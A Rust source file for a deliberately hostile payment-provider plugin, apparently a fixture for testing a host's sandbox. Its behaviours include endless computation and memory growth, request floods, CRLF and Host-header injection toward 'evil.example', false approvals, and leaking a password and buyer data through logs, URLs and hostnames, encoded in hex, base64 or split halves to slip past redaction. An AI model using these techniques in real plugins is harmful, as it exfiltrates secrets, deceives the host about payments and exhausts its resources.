//! A plugin that misbehaves in every way the host must survive. Its setting `behaviour` says how;
//! [`Behaviour`] lists what there is. It goes around the SDK's good manners on purpose.

use futures::future::join_all;
use provider_sdk::contract::{BatchLimits, Capability, Label, ProviderInfo, SettingField, SettingKind};
use provider_sdk::failure::reason;
use provider_sdk::fee_types::{AdjustedFee, Bill, FeeRule};
use provider_sdk::http::{Request, Response, SendError, Transport};
use provider_sdk::types::*;
use provider_sdk::{Call, Provider};

/// Declares [`Behaviour`]: the compiler then finds a behaviour that the plugin lacks, and one that no test meets.
macro_rules! behaviours {
    ($($behaviour:ident = $name:literal: $does:literal,)*) => {
        /// A way to misbehave, or not to.
        #[derive(Debug, Clone, Copy, PartialEq, Eq)]
        pub enum Behaviour {
            $(#[doc = $does] $behaviour,)*
        }

        impl Behaviour {
            /// All of them.
            pub const ALL: &[Self] = &[$(Self::$behaviour),*];

            /// What the setting `behaviour` calls it, and what it does.
            pub fn described(self) -> (&'static str, &'static str) {
                match self {
                    $(Self::$behaviour => ($name, $does),)*
                }
            }

            /// The behaviour with this name; [`Honest`](Self::Honest) without one.
            pub fn named(name: &str) -> Self {
                let mut all = Self::ALL.iter().copied();
                all.find(|behaviour| behaviour.described().0 == name).unwrap_or(Self::Honest)
            }
        }
    };
}

behaviours! {
    Honest = "honest": "sends one request and approves if the answer is 200",
    Spin = "spin": "computes for ever",
    Grow = "grow": "takes memory for ever",
    Deny = "deny": "approves without having sent anything",
    LieNotSent = "lie-not-sent": "sends, then says that nothing was sent",
    LieUnknown = "lie-unknown": "sends nothing, then says that the outcome is unknown",
    LieApproved = "lie-approved": "sends, loses the answer, then approves",
    Panic = "panic": "panics before it sends",
    PanicAfter = "panic-after": "panics after it has sent",
    FewRows = "few-rows": "answers no row at all",
    ManyRequests = "many-requests": "sends requests until it is stopped",
    BigRequest = "big-request": "sends a body of 64 MiB",
    ManyHeaders = "many-headers": "sends ten thousand headers",
    FloodLog = "flood-log": "logs ten thousand long lines",
    TellSecrets = "tell-secrets": "logs its settings and the buyer, whole and in part",
    BigAnswer = "big-answer": "answers with rows of 64 MiB of text",
    SpinAfter = "spin-after": "sends, then computes for ever",
    Raw = "raw": "sends one request with the `method` and the `body` of its settings: none, empty or some",
    TwoRequests = "two-requests": "sends one request to /first, one to /second, then says what `claim` says",
    SpinDenied = "spin-denied": "computes between requests that are denied",
    SpinAnswered = "spin-answered": "computes between requests that are answered",
    LongLog = "long-log": "logs lines of megabytes",
    TellPaths = "tell-paths": "puts its password and the buyer into paths and names of hosts",
    Checks = "checks": "refuses orders whose note is `refuse`, sends the references of the others, says what `claim` says",
    LieWhenDenied = "lie-when-denied": "says that every order is invalid when its request is denied, and sends all it can",
    LieInvalid = "lie-invalid": "sends all references, and only then says that orders with the note `refuse` are invalid",
    PanicWhenDenied = "panic-when-denied": "sends the references of all orders, and panics when that is denied",
    LongWords = "long-words": "answers with ids, codes and words that no platform can keep",
    Recurse = "recurse": "calls itself for ever",
    HoardHandles = "hoard-handles": "makes resources of the host's without end and keeps them",
    ManyRows = "many-rows": "answers a hundred thousand rows",
    SharedText = "shared-text": "answers rows that all are the same MiB of text: gigabytes, for whoever copies them",
    EndlessRequests = "endless-requests": "sends one request after the other, without end",
    EndlessBody = "endless-body": "sends a request whose body has no end",
    HostHeader = "host-header": "names another host in a header of its own",
    CrlfHeader = "crlf-header": "puts the end of a line and another header into a header",
    WorkAfter = "work-after": "begins a request, and answers its rows without waiting for it",
    TellRows = "tell-rows": "puts its password into every text of its rows",
    TellParts = "tell-parts": "logs and answers its password in halves, backwards and in other encodings",
    RecurseDeep = "recurse-deep": "calls itself for ever without anything in memory",
    Tables = "tables": "grows a table; the tests put the instruction there, for the language has none",
    Brief = "brief": "computes for some ten milliseconds in each call, then is honest",
    MillionLines = "million-lines": "logs a million lines",
    ManyDenied = "many-denied": "asks for a hundred thousand requests, one after the other, and approves",
}

/// The plugin.
pub struct Hostile;

impl Provider for Hostile {
    fn describe() -> ProviderInfo {
        let label = |text: &str| Label { ja: text.to_owned(), en: text.to_owned() };
        let field = |key: &str, kind, required| SettingField {
            key: key.to_owned(),
            label: label(key),
            help: label(""),
            kind,
            required,
            default: None,
            max_length: None,
        };
        ProviderInfo {
            id: "hostile".to_owned(),
            name: label("Hostile"),
            version: env!("CARGO_PKG_VERSION").to_owned(),
            settings: vec![
                field(
                    "behaviour",
                    SettingKind::Choice(
                        Behaviour::ALL
                            .iter()
                            .map(|behaviour| behaviour.described())
                            .map(|(id, does)| (id.to_owned(), label(does)))
                            .collect(),
                    ),
                    true,
                ),
                field("url", SettingKind::Url, true),
                field("password", SettingKind::Secret, false),
                field("method", SettingKind::Text, false),
                field("body", SettingKind::Text, false),
                field("claim", SettingKind::Text, false),
            ],
            carriers: Vec::new(),
            batch_limits: BatchLimits { credit: 10, check_credit: 0, cancel: 1, sync_tracking: 1 },
            // A lie as well: so its credits go over connections that were used before.
            capabilities: Capability::FIND_BY_REFERENCE,
            origins: Vec::new(),
            max_billed_amount: None,
        }
    }

    async fn test_connection<T: Transport>(call: &Call<'_, T>) -> Result<(), Failure> {
        post(call, Vec::new()).await.map(|_| ()).map_err(SendError::into_failure)
    }

    async fn credit<T: Transport>(call: &Call<'_, T>, orders: &[Order]) -> Vec<Result<Decision, Failure>> {
        let approved = || Ok(Decision { transaction_id: None, verdict: Verdict::Approved });
        let all = |row: Result<Decision, Failure>| orders.iter().map(|_| row.clone()).collect::<Vec<_>>();
        match Behaviour::named(call.settings.get("behaviour")) {
            Behaviour::Spin => spin(),
            Behaviour::Grow => grow(),
            Behaviour::Deny => all(approved()),
            Behaviour::LieUnknown => all(Err(Failure::OutcomeUnknown(reason(None, "so I say")))),
            Behaviour::LieNotSent => {
                let _ = post(call, b"x".to_vec()).await;
                all(Err(Failure::NotSent(reason(None, "so I say"))))
            }
            Behaviour::LieApproved => {
                let _ = post(call, b"x".to_vec()).await;
                all(approved())
            }
            Behaviour::Panic => panic!("on purpose"),
            Behaviour::PanicAfter => {
                let _ = post(call, b"x".to_vec()).await;
                panic!("on purpose")
            }
            Behaviour::SpinAfter => {
                let _ = post(call, b"x".to_vec()).await;
                spin()
            }
            Behaviour::FewRows => Vec::new(),
            Behaviour::ManyRequests => {
                let sent = join_all((0..10_000).map(|_| post(call, b"x".to_vec()))).await;
                all(if sent.iter().all(Result::is_ok) { approved() } else { Err(denied(&sent)) })
            }
            Behaviour::BigRequest => all(outcome(post(call, vec![b'x'; 64 << 20]).await)),
            Behaviour::ManyHeaders => {
                let mut request = Request::post(call.settings.get("url").to_owned(), "text/plain", "x");
                request.headers.extend((0..10_000).map(|_| ("x-header", "value".to_owned())));
                all(outcome(call.http.send(request).await))
            }
            Behaviour::FloodLog => {
                (0..10_000).for_each(|_| log(&"line\n".repeat(1_000)));
                all(outcome(post(call, b"x".to_vec()).await))
            }
            Behaviour::TellSecrets => {
                log(&format!("password={}", call.settings.get("password")));
                orders.iter().for_each(|order| log(&format!("{order:?}")));
                all(outcome(post(call, b"x".to_vec()).await))
            }
            Behaviour::Raw => all(outcome(raw(call).await)),
            Behaviour::TwoRequests => {
                let url = |path: &str| format!("{}{path}", call.settings.get("url"));
                for path in ["first", "second"] {
                    let _ = call.http.send(Request::post(url(path), "text/plain", b"x".to_vec())).await;
                }
                all(claim(call.settings.get("claim")))
            }
            Behaviour::SpinDenied => {
                for _ in 0..256 {
                    let elsewhere = "http://203.0.113.1/".to_owned();
                    let _ = call.http.send(Request::post(elsewhere, "text/plain", b"x".to_vec())).await;
                    compute();
                }
                all(approved())
            }
            Behaviour::SpinAnswered => {
                for _ in 0..256 {
                    let _ = post(call, b"x".to_vec()).await;
                    compute();
                }
                all(approved())
            }
            Behaviour::LongLog => {
                let line = format!("{} ", call.settings.get("password")).repeat(100_000);
                (0..100).for_each(|_| log(&line));
                all(approved())
            }
            Behaviour::TellPaths => {
                let (password, buyer) = (call.settings.get("password"), &orders[0].buyer);
                let (name, street) = (percent(&buyer.name), percent(&buyer.address.street));
                for url in [
                    format!("{}{password}/{name}/{street}?{password}", call.settings.get("url")),
                    format!("http://{password}.example/{}", buyer.phone),
                    format!("https://{password}.EXAMPLE:8443/{password}"),
                    format!("http://{}.example/{}", "x".repeat(200), "y".repeat(10_000)),
                ] {
                    let _ = call.http.send(Request::post(url, "text/plain", b"x".to_vec())).await;
                }
                all(approved())
            }
            Behaviour::Checks => {
                let sent: Vec<_> = orders.iter().filter(|order| !is_to_refuse(order)).cloned().collect();
                if !sent.is_empty() {
                    let _ = post(call, references(&sent)).await;
                }
                orders.iter().map(|order| claim(checked(order).unwrap_or(call.settings.get("claim")))).collect()
            }
            Behaviour::LieWhenDenied => match post(call, references(orders)).await {
                Err(SendError::NotSent(_)) => all(claim("invalid")),
                _ => all(approved()),
            },
            Behaviour::LieInvalid => match post(call, references(orders)).await {
                Err(SendError::NotSent(_)) => all(claim("not-sent")),
                _ => orders.iter().map(|order| claim(checked(order).unwrap_or("outcome-unknown"))).collect(),
            },
            Behaviour::PanicWhenDenied => match post(call, references(orders)).await {
                Err(SendError::NotSent(_)) => panic!("on purpose"),
                sent => all(outcome(sent)),
            },
            Behaviour::LongWords => match post(call, b"x".to_vec()).await {
                Err(SendError::NotSent(_)) => all(claim("not-sent")),
                _ => long_words(orders.len()),
            },
            Behaviour::BigAnswer => all(Err(Failure::Refused(reason(None, "x".repeat(64 << 20))))),
            Behaviour::Honest => all(outcome(post(call, b"x".to_vec()).await)),
            Behaviour::Recurse => {
                log(&recurse(1).to_string());
                all(approved())
            }
            Behaviour::HoardHandles => {
                let mut kept = Vec::new();
                loop {
                    kept.push(wasip3::http::types::Fields::new());
                }
            }
            Behaviour::ManyRows => vec![approved(); 100_000],
            Behaviour::SharedText => shared_text(),
            Behaviour::EndlessRequests => loop {
                let _ = post(call, b"x".to_vec()).await;
            },
            Behaviour::EndlessBody => all(outcome(endless_body(call).await)),
            Behaviour::HostHeader => all(outcome(with_header(call, "host", "evil.example").await)),
            Behaviour::CrlfHeader => all(outcome(with_header(call, "x-note", "a\r\nx-injected: b").await)),
            Behaviour::WorkAfter => {
                // Begun and left to itself; it is never dropped, so that nothing cancels it.
                let mut late = Box::pin(post(call, b"late".to_vec()));
                let _ = futures::poll!(&mut late);
                std::mem::forget(late);
                all(approved())
            }
            Behaviour::TellParts => {
                let parts = parts(call.settings.get("password"));
                parts.iter().for_each(|part| log(part));
                let _ = post(call, b"x".to_vec()).await;
                all(Err(Failure::Refused(reason(None, parts.join(" ")))))
            }
            Behaviour::RecurseDeep => {
                log(&recurse_deep(1).to_string());
                all(approved())
            }
            Behaviour::Tables => {
                // The tests replace this very number by the growth of a table.
                log(&std::hint::black_box(GROWS_TABLE).to_string());
                all(outcome(post(call, b"x".to_vec()).await))
            }
            Behaviour::Brief => {
                count_to(BRIEF);
                all(outcome(post(call, b"x".to_vec()).await))
            }
            Behaviour::MillionLines => {
                (0..1_000_000).for_each(|_| log("line"));
                all(outcome(post(call, b"x".to_vec()).await))
            }
            Behaviour::ManyDenied => {
                for _ in 0..100_000 {
                    let _ = post(call, b"x".to_vec()).await;
                }
                all(approved())
            }
            Behaviour::TellRows => {
                let _ = post(call, b"x".to_vec()).await;
                let told = reason(Some(call.settings.get("password").to_owned()), call.settings.get("password"));
                all(Err(Failure::Refused(told)))
            }
        }
    }

    async fn check_credit<T: Transport>(
        _: &Call<'_, T>,
        registrations: &[Registration],
    ) -> Vec<Result<Standing, Failure>> {
        registrations.iter().map(|_| Err(Failure::Unsupported)).collect()
    }

    async fn cancel<T: Transport>(call: &Call<'_, T>, cancellations: &[Cancellation]) -> Vec<Result<(), Failure>> {
        let sent = post(call, b"x".to_vec()).await;
        cancellations.iter().map(|_| sent.clone().map(|_| ()).map_err(SendError::into_failure)).collect()
    }

    async fn sync_tracking<T: Transport>(_: &Call<'_, T>, shipments: &[Shipment]) -> Vec<Result<(), Failure>> {
        shipments.iter().map(|_| Ok(())).collect()
    }

    fn fee_adjust(_: &FeeRule, _: &Bill) -> Result<AdjustedFee, Vec<FieldProblem>> {
        spin()
    }
}

async fn post<T: Transport>(call: &Call<'_, T>, body: Vec<u8>) -> Result<Response, SendError> {
    call.http.send(Request::post(call.settings.get("url").to_owned(), "text/plain", body)).await
}

fn outcome(sent: Result<Response, SendError>) -> Result<Decision, Failure> {
    match sent {
        Ok(answer) if answer.status == 200 => Ok(Decision { transaction_id: None, verdict: Verdict::Approved }),
        Ok(answer) => Err(Failure::Refused(reason(None, format!("status {}", answer.status)))),
        Err(error) => Err(error.into_failure()),
    }
}

fn denied(sent: &[Result<Response, SendError>]) -> Failure {
    let refused = sent.iter().filter(|result| result.is_err()).count();
    Failure::Refused(reason(None, format!("{refused} refused")))
}

/// Sends through `wasi:http` itself: the SDK always gives a body and its length.
async fn raw<T: Transport>(call: &Call<'_, T>) -> Result<Response, SendError> {
    use wasip3::http::client;
    use wasip3::http::types::{Fields, Method, Request as WasiRequest, Scheme};
    let url = call.settings.get("url").trim_start_matches("http://").trim_end_matches('/');
    let body = call.settings.get("body");
    let (mut contents, stream) = wasip3::wit_stream::new();
    let stream = (body != "none").then_some(stream);
    let (trailers, no_trailers) = wasip3::wit_future::new(|| Ok(None));
    let (request, _transmitted) = WasiRequest::new(Fields::new(), stream, no_trailers, None);
    let method = match call.settings.get("method") {
        "GET" => Method::Get,
        "HEAD" => Method::Head,
        "POST" => Method::Post,
        "PUT" => Method::Put,
        "DELETE" => Method::Delete,
        "PATCH" => Method::Patch,
        "OPTIONS" => Method::Options,
        other => Method::Other(other.to_owned()),
    };
    let _ = request.set_method(&method);
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some(url));
    let _ = request.set_path_with_query(Some("/"));
    let write_body = async move {
        if body == "some" {
            contents.write_all(b"body".to_vec()).await;
        }
        drop(contents);
        let _ = trailers.write(Ok(None)).await;
    };
    let (answer, ()) = futures::join!(client::send(request), write_body);
    let answer = answer?;
    let status = answer.get_status_code();
    Ok(Response { status, content_type: None, retry_after: None, body: Vec::new() })
}

/// One request with a header that no request of the SDK has.
async fn with_header<T: Transport>(call: &Call<'_, T>, name: &'static str, value: &str) -> Result<Response, SendError> {
    let mut request = Request::post(call.settings.get("url").to_owned(), "text/plain", "x");
    request.headers.push((name, value.to_owned()));
    call.http.send(request).await
}

/// One request whose body goes on for as long as somebody reads it.
async fn endless_body<T: Transport>(call: &Call<'_, T>) -> Result<Response, SendError> {
    use wasip3::http::client;
    use wasip3::http::types::{Fields, Method, Request as WasiRequest, Scheme};
    let url = call.settings.get("url").trim_start_matches("http://").trim_end_matches('/');
    let (mut contents, stream) = wasip3::wit_stream::new();
    let (_trailers, no_trailers) = wasip3::wit_future::new(|| Ok(None));
    let (request, _transmitted) = WasiRequest::new(Fields::new(), Some(stream), no_trailers, None);
    let _ = request.set_method(&Method::Post);
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some(url));
    let _ = request.set_path_with_query(Some("/"));
    // Ends when the host reads no more.
    let write_body = async move { while contents.write_all(vec![b'x'; 64 << 10]).await.is_empty() {} };
    let (answer, ()) = futures::join!(client::send(request), write_body);
    let status = answer?.get_status_code();
    Ok(Response { status, content_type: None, retry_after: None, body: Vec::new() })
}

/// Rows that all have the very same MiB of text, ten thousand times.
#[expect(unsafe_code, reason = "texts that share their memory; none of them is ever freed, for the call ends first")]
fn shared_text() -> Vec<Result<Decision, Failure>> {
    let text = std::mem::ManuallyDrop::new("x".repeat(1 << 20));
    let (start, length) = (text.as_ptr().cast_mut(), text.len());
    // SAFETY: the memory is never freed here: the host copies rows before they are dropped, and does not come to the end.
    let shared = || unsafe { String::from_raw_parts(start, length, length) };
    (0..10_000).map(|_| Err(Failure::Refused(reason(None, shared())))).collect()
}

/// Calls itself until the stack ends.
fn recurse(depth: u64) -> u64 {
    let kept = std::hint::black_box([depth; 64]);
    if depth == u64::MAX { 0 } else { recurse(depth + 1) + kept.iter().sum::<u64>() }
}

/// The same with what it keeps in locals alone, so that the machine's stack ends and not the one in its memory.
#[inline(never)]
fn recurse_deep(depth: u64) -> u64 {
    if depth == u64::MAX { 0 } else { recurse_deep(depth + 1).wrapping_mul(recurse_deep(depth + 2)) ^ depth }
}

/// `secret` in forms in which it is not looked for as it is.
fn parts(secret: &str) -> Vec<String> {
    let (first, second) = secret.split_at(secret.len() / 2);
    let hex = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    let wide = secret.bytes().filter_map(|byte| char::from_u32(u32::from(byte) + 0xfee0)).collect();
    let spaced = secret.chars().map(|letter| format!("{letter} ")).collect();
    vec![
        first.into(),
        second.into(),
        secret.chars().rev().collect(),
        hex,
        percent(secret),
        wide,
        spaced,
        base64(secret),
    ]
}

fn base64(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let digits = text.as_bytes().chunks(3).flat_map(|three| {
        let bits = three.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        (0..=three.len()).map(move |digit| DIGITS[(bits >> (18 - 6 * digit) & 63) as usize] as char)
    });
    digits.collect()
}

/// The row that `claim` names.
fn claim(claim: &str) -> Result<Decision, Failure> {
    let reason = || reason(None, "so I say");
    Err(match claim {
        "invalid" => Failure::Invalid(Vec::new()),
        "unauthorized" => Failure::Unauthorized(reason()),
        "already" => Failure::Already(reason()),
        "refused" => Failure::Refused(reason()),
        "not-sent" => Failure::NotSent(reason()),
        "busy" => Failure::Busy((reason(), None)),
        "unsupported" => Failure::Unsupported,
        "outcome-unknown" => Failure::OutcomeUnknown(reason()),
        _ => return Ok(Decision { transaction_id: Some("T1".to_owned()), verdict: Verdict::Approved }),
    })
}

/// Whether this plugin's own check refuses `order`.
fn is_to_refuse(order: &Order) -> bool {
    order.note.as_deref() == Some("refuse")
}

/// What it says of an `order` that its check refuses.
fn checked(order: &Order) -> Option<&'static str> {
    is_to_refuse(order).then_some("invalid")
}

fn references(orders: &[Order]) -> Vec<u8> {
    orders.iter().map(|order| order.reference.as_str()).collect::<Vec<_>>().join(",").into_bytes()
}

/// Rows that are too long or not to be shown, each in its way.
fn long_words(rows: usize) -> Vec<Result<Decision, Failure>> {
    let long = "long\u{1b}[2J\0".repeat(100_000);
    let said = || reason(Some(long.clone()), long.clone());
    let decided = |id: &str, verdict| Ok(Decision { transaction_id: Some(id.to_owned()), verdict });
    let mut all = vec![
        decided("A\0B", Verdict::Approved),
        decided(&"1".repeat(65), Verdict::Approved),
        decided("A-1", Verdict::Approved),
        decided("A-2", Verdict::Rejected(vec![reason(None, "short"); 20_000])),
        Err(Failure::Refused(said())),
        Err(Failure::Invalid(vec![FieldProblem { field: long.clone(), reason: said() }])),
        Err(Failure::Busy((said(), Some(u32::MAX)))),
    ];
    all.truncate(rows);
    all
}

/// Everything but letters and digits as `%XX`.
fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Steps of some ten milliseconds.
const BRIEF: u64 = 10_000_000;

/// A number that stands nowhere else in the component.
const GROWS_TABLE: i64 = 0x7ab1_e123_4567_89ab;

/// Computes for some 100 milliseconds: a plugin has no clock, so this is a number of steps.
fn compute() {
    count_to(100_000_000);
}

fn count_to(steps: u64) {
    let mut x = 0u64;
    for _ in 0..steps {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

fn log(words: &str) {
    use provider_sdk::bindings::deferred_payment::provider::log::{Level, write};
    write(Level::Info, words);
}

fn spin() -> ! {
    let mut x = 0u64;
    loop {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

fn grow() -> ! {
    let mut kept = Vec::new();
    loop {
        kept.push(std::hint::black_box(vec![1u8; 1 << 20]));
    }
}

provider_sdk::export_provider!(Hostile);
